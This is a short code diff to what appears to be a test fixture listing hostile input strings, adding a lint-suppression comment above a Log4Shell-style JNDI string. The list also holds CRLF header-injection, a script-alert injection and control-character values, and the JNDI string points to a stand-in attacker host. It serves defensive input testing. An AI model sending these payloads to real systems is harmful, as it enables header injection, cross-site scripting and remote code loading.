@@ -21,6 +21,7 @@ const NASTY = [
   "\r\nSet-Cookie: evil=1",
   "%0d%0aLocation: http://evil.example",
   "<script>alert(1)</script>",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style string is the point
   "${jndi:ldap://evil.example/a}",
   "\u0000\u0001\u001f",
   "🚗🚚🛳️",
